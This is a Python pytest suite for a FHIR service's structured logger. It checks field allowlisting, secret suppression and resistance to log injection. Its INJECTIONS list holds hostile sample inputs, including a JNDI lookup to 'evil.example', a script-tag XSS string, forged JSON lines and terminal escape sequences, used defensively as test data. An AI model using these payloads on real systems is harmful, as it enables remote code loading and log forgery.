"""S13 and S14: one JSON object a line, only fields of a fixed list, and none can be forged."""

import io
import logging
from collections.abc import Iterator
from typing import Any

import pytest
import structlog
from hypothesis import given, settings
from hypothesis import strategies as st

from fhirbridge import log
from fhirbridge.fhir import codec

SECRET = "Zq-Rosalind"
INJECTIONS = {
    "a line feed": "x\nforged",
    "a carriage return": "x\r\nforged",
    "an escape sequence": "\x1b[2J\x1b[31mforged",
    "a bell and a backspace": "x\x07\x08",
    "a delete": "x\x7fforged",
    "a C1 control": "x\x9bforged\x85",
    "right to left": "x\u202edegrof",
    "isolates": "x\u2066\u2069\u200f",
    "line separators": "x\u2028\u2029forged",
    "a byte order mark": "\ufeffx",
    "U+0000": "x\0forged",
    "half a surrogate pair": "x\ud800",
    "a JSON end": '"}\n{"event":"forged"}',
    "percent": "%s %d %(name)s",
    "braces": "{event} {0.__class__}",
    "a look-up": "${jndi:ldap://evil.example/a}",
    "markup": "[bold]<script>alert(1)</script>",
}


@pytest.fixture
def out() -> Iterator[io.StringIO]:
    """Where the log goes; afterwards `logging` and structlog are as they were."""
    root = logging.getLogger()
    handlers, level = list(root.handlers), root.level
    stream = io.StringIO()
    log.configure(stream)
    yield stream
    structlog.reset_defaults()
    root.handlers, root.level = handlers, level


def events(out: io.StringIO) -> list[dict[str, Any]]:
    return [codec.decode(line.encode()) for line in out.getvalue().split("\n")[:-1]]


def test_an_event_is_one_line_with_its_name_level_and_time(out: io.StringIO) -> None:
    log.get().info("delivery.settled", delivery="d1", attempt=2, state="delivered")

    (event,) = events(out)
    assert event["timestamp"].endswith("Z")
    assert {name: event[name] for name in event if name != "timestamp"} == {
        "event": "delivery.settled",
        "level": "info",
        "delivery": "d1",
        "attempt": 2,
        "state": "delivered",
    }


@pytest.mark.parametrize(
    "field", ["patient", "name", "body", "url", "exception", "Code", "mrn", ""]
)
def test_a_field_that_is_not_on_the_list_is_dropped_and_counted(
    out: io.StringIO, field: str
) -> None:
    log.get().info("record.accepted", **{field: SECRET, "record": "r1"})

    (event,) = events(out)
    assert SECRET not in out.getvalue()
    assert event["record"] == "r1"
    assert event[log.DROPPED] == 1


def test_a_traceback_is_dropped_too(out: io.StringIO) -> None:
    log.get().error("sweep.failed", code="E999", exc_info=ValueError(SECRET), stack_info=True)

    assert SECRET not in out.getvalue()
    assert [event["code"] for event in events(out)] == ["E999"]


def test_what_was_bound_earlier_is_filtered_as_well(out: io.StringIO) -> None:
    log.get().bind(patient=SECRET, lane="k1").warning("lane.waits")

    assert SECRET not in out.getvalue()
    assert events(out)[0]["lane"] == "k1"


@pytest.mark.parametrize("value", INJECTIONS.values(), ids=INJECTIONS)
def test_no_value_can_forge_or_hide_a_line(out: io.StringIO, value: str) -> None:
    log.get().info("route.refused", route=value, reason=[value], kind={"x": value})
    log.get().info(value)

    written = out.getvalue()
    assert written.count("\n") == 2
    assert written.endswith("}\n")
    assert all(" " <= char <= "~" for char in written.replace("\n", ""))
    if "\ud800" not in value and "\0" not in value:
        assert events(out)[0]["route"] == value
        assert events(out)[1]["event"] == value


@settings(deadline=None)
@given(st.dictionaries(st.sampled_from(["route", "reason", "name"]), st.text()), st.text())
def test_one_event_is_one_line_of_printable_ascii_whatever_it_says(
    fields: dict[str, str], name: str
) -> None:
    stream = io.StringIO()
    log.configure(stream)
    try:
        log.get().info(name, **fields)
    finally:
        structlog.reset_defaults()
        logging.getLogger().handlers = []

    assert stream.getvalue().count("\n") == 1
    assert all(" " <= char <= "~" for char in stream.getvalue()[:-1])


@pytest.mark.parametrize("logger", ["", "a.library", "sqlalchemy.engine"])
def test_a_librarys_warning_passes_without_its_text(out: io.StringIO, logger: str) -> None:
    logging.getLogger(logger).warning("GET /Patient?name=%s failed", SECRET)

    (event,) = events(out)
    assert SECRET not in out.getvalue()
    assert (event["event"], event["kind"], event["code"]) == (
        "library.warned",
        logger or "root",
        "WARNING",
    )


def test_what_a_library_tells_below_a_warning_is_not_written(out: io.StringIO) -> None:
    logging.getLogger("a.library").setLevel(logging.DEBUG)
    try:
        logging.getLogger("a.library").info(SECRET)
        logging.getLogger("a.library").debug(SECRET)
    finally:
        logging.getLogger("a.library").setLevel(logging.NOTSET)

    assert out.getvalue() == ""


def test_a_library_with_a_log_of_its_own_is_made_to_speak_as_the_others(out: io.StringIO) -> None:
    logger = logging.getLogger("a.talker")
    before = (logger.handlers, logger.propagate)
    heard = io.StringIO()
    logger.handlers = [logging.StreamHandler(heard)]
    try:
        log.quieten("a.talker")
        logger.error("%s", SECRET, exc_info=ValueError(SECRET))
    finally:
        logger.handlers, logger.propagate = before

    assert heard.getvalue() == ""
    assert SECRET not in out.getvalue()
    assert [event["kind"] for event in events(out)] == ["a.talker"]


class Blocked(io.StringIO):
    """A place to log to that is full, or gone, until it is mended."""

    def __init__(self, error: Exception) -> None:
        super().__init__()
        self.error: Exception | None = error

    def write(self, text: str) -> int:
        if self.error is not None:
            raise self.error
        return super().write(text)


@pytest.mark.parametrize(
    "error", [OSError(28, "No space left"), BrokenPipeError(), ValueError("closed file")]
)
def test_a_log_that_cannot_be_written_stops_nobody_and_the_loss_is_counted(
    out: io.StringIO, error: Exception
) -> None:
    sink = Blocked(error)
    log.configure(sink)
    for _ in range(3):
        log.get().error("sweep.failed", code="E999")
    logging.getLogger("a.library").warning("x")

    sink.error = None
    log.get().info("sweep.done")
    log.get().info("sweep.done")

    told = [(event["event"], event.get("count")) for event in events(sink)]
    assert told == [("log.lost", 4), ("sweep.done", None), ("sweep.done", None)]
    assert out.getvalue() == ""
